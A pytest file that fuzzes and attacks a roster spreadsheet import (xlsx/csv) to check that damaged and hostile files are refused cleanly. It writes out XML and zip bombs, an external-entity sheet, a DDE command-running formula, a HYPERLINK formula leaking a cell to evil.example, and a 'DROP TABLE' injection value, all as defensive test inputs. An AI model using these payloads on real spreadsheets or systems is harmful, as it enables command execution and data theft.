"""The roster import under attack: damaged and hostile files, formula cells, wrong types
and random cells never crash it and never save part of a file. Every refusal says what is
wrong: the whole file (a message with a code), or a row and column."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator
from contextlib import contextmanager

import openpyxl
import pytest
from defusedxml import DefusedXmlException
from django.db import transaction
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from households.models import Member
from households.resources import COLUMN_BY_KEY, HEADERS, roster_import
from resettlement.imports.files import MAX_COLUMNS, FileRejected, read_roster
from tests import hostile_files
from tests.households.fixtures import nothing_saved
from tests.xlsx import as_cells, household_rows, roster_csv, roster_xlsx

FUZZ = settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def good_xlsx() -> bytes:
    return roster_xlsx(household_rows("H001") + household_rows("H002"))


@contextmanager
def rolled_back() -> Iterator[None]:
    """One generated example's writes, undone before the next example runs."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def refusal(data: bytes, kind: str, *, actor, project) -> list[str]:
    """What the clerk is told: the file's refusal, or every problem by row and column.
    Fails the test if the import succeeded, or saved anything."""
    try:
        report = roster_import(actor=actor, project=project, dataset=read_roster(data, kind))
    except FileRejected as refused:
        assert refused.code and refused.message
        messages = [refused.message]
    else:
        assert not report.ok, "a hostile file was imported"
        messages = [str(problem) for problem in report.problems]
    assert messages and all(messages)
    assert nothing_saved(project)
    return messages


def refused_code(data: bytes, kind: str = "xlsx") -> str:
    with pytest.raises(FileRejected) as refused:
        read_roster(data, kind)
    assert refused.value.message
    return refused.value.code


# -- damaged and hostile files ------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=4096), kind=st.sampled_from(["xlsx", "csv"]))
@example(data=b"PK\x03\x04" + b"\0" * 100, kind="xlsx")
@example(data=b"\xef\xbb\xbf", kind="csv")
def test_random_bytes_are_refused_with_a_message(clerk, roster_project, data, kind):
    refusal(data, kind, actor=clerk, project=roster_project)


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.9, 0.99])
def test_a_truncated_workbook_is_refused_as_damaged(keep):
    data = good_xlsx()

    assert refused_code(data[: int(len(data) * keep)]) in {"not_xlsx", "unreadable"}


def test_a_workbook_whose_zip_version_byte_is_damaged_is_refused_as_damaged():
    """Found by the fuzz below: a central-directory entry claiming "zip file version 10.0"
    made Python's zipfile raise NotImplementedError, which reached the user as a 500."""
    data = bytearray(good_xlsx())
    entry = data.index(b"PK\x01\x02")  # the first central-directory entry
    data[entry + 6] = 100  # "version needed to extract": 10.0

    assert refused_code(bytes(data)) == "not_xlsx"


@FUZZ
@given(position=st.integers(min_value=0), value=st.integers(min_value=0, max_value=255))
def test_a_workbook_with_a_damaged_byte_is_imported_whole_or_not_at_all(
    clerk, roster_project, position, value
):
    data = bytearray(good_xlsx())
    data[position % len(data)] = value
    with rolled_back():
        try:
            report = roster_import(
                actor=clerk, project=roster_project, dataset=read_roster(bytes(data), "xlsx")
            )
        except FileRejected as refused:
            assert refused.message
            assert nothing_saved(roster_project)
            return
        if report.ok:  # the byte was one nothing reads (a timestamp, a file attribute)
            assert (report.households, report.members) == (2, 6)
            assert Member.objects.filter(project=roster_project).count() == 6
        else:
            assert report.problems
            assert nothing_saved(roster_project)


def test_an_xml_bomb_in_the_sheet_is_refused(clerk, roster_project):
    data = hostile_files.with_part(
        good_xlsx(), hostile_files.SHEET, hostile_files.billion_laughs("worksheet")
    )

    assert refused_by_defusedxml(data)
    assert nothing_saved(roster_project)


def test_an_xml_bomb_in_the_shared_strings_is_refused(clerk, roster_project):
    # The table is read: a damaged one makes the file unreadable.
    assert refused_code(hostile_files.with_shared_strings(good_xlsx(), b"<sst><si>")) == (
        "unreadable"
    )
    data = hostile_files.with_shared_strings(good_xlsx(), hostile_files.billion_laughs("sst"))

    assert refused_by_defusedxml(data)
    assert nothing_saved(roster_project)


def refused_by_defusedxml(data: bytes) -> bool:
    with pytest.raises(FileRejected) as refused:
        read_roster(data, "xlsx")
    assert refused.value.code == "unreadable"
    chain, exc = [], refused.value
    while exc is not None and exc not in chain:
        chain.append(exc)
        exc = exc.__cause__ or exc.__context__
    return any(isinstance(e, DefusedXmlException) for e in chain)


def test_a_sheet_reading_a_server_file_is_refused():
    data = hostile_files.with_part(
        good_xlsx(), hostile_files.SHEET, hostile_files.external_entity()
    )

    assert refused_by_defusedxml(data)


def test_openpyxl_parses_through_defusedxml():
    assert openpyxl.DEFUSEDXML


def test_a_zip_bomb_is_refused_from_the_zip_directory(settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 8 * 1024 * 1024
    data = hostile_files.zip_bomb(good_xlsx(), megabytes=20)
    assert len(data) < 100_000

    assert refused_code(data) == "zip_bomb"


def test_a_zip_lying_about_a_members_size_is_refused_as_damaged():
    assert refused_code(hostile_files.understated_sheet(good_xlsx())) == "unreadable"


def test_a_zip_of_thousands_of_members_is_refused():
    assert refused_code(hostile_files.many_members(good_xlsx(), 1000)) == "zip_bomb"


# -- sheet shapes ------------------------------------------------------------------------


def test_more_data_rows_than_allowed_are_refused_before_any_row_is_checked(settings):
    settings.IMPORT_MAX_ROWS = 2_000  # 50,000 in production; the same check, faster
    row = [str(value or "") for value in as_cells(household_rows("H001")[0])]
    sheet = hostile_files.sheet_of_rows(list(HEADERS), row, 2_001)
    data = hostile_files.with_part(good_xlsx(), hostile_files.SHEET, sheet)

    assert refused_code(data) == "too_many_rows"


def test_a_cell_beyond_the_last_row_excel_has_is_refused():
    row = [str(value or "") for value in as_cells(household_rows("H001")[0])]
    sheet = hostile_files.sheet_of_rows(list(HEADERS), row, 1, first_row=1_048_577)
    data = hostile_files.with_part(good_xlsx(), hostile_files.SHEET, sheet)

    assert refused_code(data) == "too_many_rows"


def test_data_far_to_the_right_is_refused_not_padded_into_every_row():
    book = openpyxl.load_workbook(io.BytesIO(good_xlsx()))
    book.active.cell(row=3, column=MAX_COLUMNS + 1, value="多余")
    stream = io.BytesIO()
    book.save(stream)

    assert refused_code(stream.getvalue()) == "too_many_columns"


def test_a_csv_row_of_thousands_of_cells_is_refused():
    data = roster_csv(household_rows("H001")) + ("x," * 5000).encode() + b"\n"

    assert refused_code(data, "csv") == "too_many_columns"


# -- csv encodings -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoding", ["utf-16", "utf-32", "shift_jis", "big5", "latin-1", "cp1252", "utf-8"]
)
def test_a_csv_in_any_encoding_is_imported_or_refused_with_a_message(
    clerk, roster_project, encoding
):
    text = roster_csv(household_rows("H001"), encoding="utf-8").decode("utf-8")
    data = text.encode(encoding, errors="replace")
    if encoding == "utf-8":
        data = data.replace("户".encode(), b"\xff\xfe")  # a broken character
    refusal(data, "csv", actor=clerk, project=roster_project)


def test_a_csv_field_larger_than_csv_allows_is_refused():
    data = ",".join(HEADERS).encode() + b'\n"' + b"a" * 200_000 + b'"\n'

    assert refused_code(data, "csv") == "not_csv"


# -- formula cells ------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&B2,"点我")',
    "=1+1",
    "  =SUM(A1:A9)",
]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_cell_is_refused_on_its_row_and_column(clerk, roster_project, kind, formula):
    rows = household_rows("H001")
    rows[1]["address"] = formula  # one row's address: the others are plain text
    rows[2]["name"] = formula
    data = roster_xlsx(rows) if kind == "xlsx" else roster_csv(rows)

    messages = refusal(data, kind, actor=clerk, project=roster_project)

    assert any(m.startswith("第 3 行“原住址”列:单元格是公式") for m in messages)
    assert any(m.startswith("第 4 行“姓名”列:单元格是公式") for m in messages)


def test_a_neutralised_formula_from_an_export_is_text_not_a_formula(clerk, roster_project):
    rows = household_rows("H001", address="'=1+2")

    report = roster_import(
        actor=clerk, project=roster_project, dataset=read_roster(roster_xlsx(rows), "xlsx")
    )

    assert report.ok
    assert roster_project.households.get().address == "=1+2"


# -- wrong types and random cells -----------------------------------------------------------

WRONG = [
    ("birth_date", "明年"),
    ("birth_date", 99999999),
    ("birth_date", dt.datetime(9999, 12, 31, 23, 59)),
    ("demolished_area", "1e400"),
    ("demolished_area", -5),
    ("demolished_area", "NaN"),
    ("demolished_area", dt.date(2020, 1, 1)),
    ("id_number", 3.3010519700315e17),
    ("relation", 1),
    ("one_child_certificate", "也许"),
    ("code", "H 001;DROP TABLE"),
    ("name", "名" * 5000),
    ("sex", "#DIV/0!"),
    ("sex", True),
    ("hukou_moved_in", dt.time(12, 30)),
]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("key,value", WRONG, ids=[f"{k}={v!r:.20}" for k, v in WRONG])
def test_a_cell_of_the_wrong_type_is_refused_on_its_row(clerk, roster_project, kind, key, value):
    rows = household_rows("H001")
    for row in rows:  # every row, so household columns stay consistent
        row[key] = value
    data = roster_xlsx(rows) if kind == "xlsx" else roster_csv(rows)

    messages = refusal(data, kind, actor=clerk, project=roster_project)

    assert all(message.startswith("第 ") for message in messages)
    column = f"“{COLUMN_BY_KEY[key].header}”列"
    assert any(column in message for message in messages), messages  # the cell itself


_XLSX_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=["Cs", "Cc"]) | st.sampled_from("=+-@'\t"),
    max_size=40,
)
CELL = st.one_of(
    st.none(),
    _XLSX_TEXT,
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=False),
    st.booleans(),
    st.dates(min_value=dt.date(1900, 3, 1)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1)),
    st.sampled_from(["男", "女", "户主", "农业", "已婚", "无", "是", "未享受", "NGH", "NGH-1"]),
)


@FUZZ
@given(cells=st.lists(st.lists(CELL, min_size=len(HEADERS), max_size=len(HEADERS)), max_size=4))
def test_random_cells_under_a_valid_header_never_crash_or_half_save(clerk, roster_project, cells):
    book = openpyxl.Workbook()
    book.active.append(list(HEADERS))
    for row in cells:
        book.active.append([c if c == c else "nan" for c in row])  # NaN cells write as text
    stream = io.BytesIO()
    book.save(stream)

    with rolled_back():
        try:
            report = roster_import(
                actor=clerk, project=roster_project, dataset=read_roster(stream.getvalue(), "xlsx")
            )
        except FileRejected as refused:  # nothing but blank rows under the header
            assert refused.code in {"no_rows", "empty_file"}
            assert nothing_saved(roster_project)
            return
        if report.ok:
            assert Member.objects.filter(project=roster_project).count() == report.members
            return
        assert nothing_saved(roster_project)
        for problem in report.problems:
            assert problem.row is None or 1 <= problem.row <= len(cells) + 1
            assert str(problem)
